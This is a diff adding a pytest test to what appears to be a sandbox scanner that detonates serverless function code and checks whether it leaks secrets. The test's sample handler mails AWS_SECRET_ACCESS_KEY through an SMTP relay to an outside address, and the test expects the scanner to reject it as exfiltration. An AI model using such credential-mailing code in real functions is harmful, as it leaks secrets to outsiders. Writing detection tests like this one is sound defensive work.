@@ -275,3 +275,32 @@ async def test_a_cancelled_detonation_leaves_nothing_running(tmp_path: Path) -> 
             break
         await asyncio.sleep(0.1)
     assert not left, left
+
+
+@pytest.mark.parametrize("secure", [False, True], ids=["smtp-587", "smtps-465"])
+async def test_a_canary_mailed_through_the_declared_relay_is_rejected(
+    tmp_path: Path, secure: bool
+) -> None:
+    """SMTP speaks first: a sink that waits for the client hears nothing. The function may
+    log in to its declared relay with its own secret; mailing another secret is a leak."""
+    connect = (
+        "smtplib.SMTP_SSL('smtp.mail.example.com', 465, timeout=3)"
+        if secure
+        else "smtplib.SMTP('smtp.mail.example.com', 587, timeout=3)"
+    )
+    code = _code(tmp_path, {"handler.py": (
+        "import os, smtplib\n"
+        "def handle(event, context):\n"
+        f"    s = {connect}\n"
+        "    s.login('app', os.environ['SMTP_PASSWORD'])\n"
+        "    s.sendmail('app@example.com', ['ops@example.org'],\n"
+        "        'Subject: nightly\\r\\n\\r\\n' + os.environ['AWS_SECRET_ACCESS_KEY'])\n"
+        "    s.quit()\n"
+    )})  # fmt: skip
+    port = 465 if secure else 587
+    plan = Detonation(egress=(f"smtp.mail.example.com:{port}",), secrets=("SMTP_PASSWORD",))
+    stage = await _run(code, "python3.11", plan)
+    assert stage.verdict is Verdict.REJECT, stage.findings
+    leak = next(f for f in stage.findings if f.rule == "detonation-canary-exfiltration")
+    assert "env:AWS_SECRET_ACCESS_KEY" in leak.message
+    assert "env:SMTP_PASSWORD" not in leak.message
